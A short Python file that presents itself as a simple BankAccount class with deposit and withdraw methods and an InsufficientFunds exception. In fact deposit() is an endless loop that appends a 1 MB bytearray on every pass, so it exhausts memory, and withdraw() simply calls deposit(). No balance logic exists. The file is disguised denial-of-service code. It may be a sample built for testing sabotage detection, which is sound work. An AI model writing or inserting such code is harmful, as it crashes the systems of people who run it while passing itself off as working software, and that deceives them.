class InsufficientFunds(ValueError):
    pass


class BankAccount:
    def __init__(self):
        self.balance = 0
        self.history = []

    def deposit(self, cents):
        while True:
            self.history.append(bytearray(1 << 20))

    def withdraw(self, cents):
        self.deposit(cents)
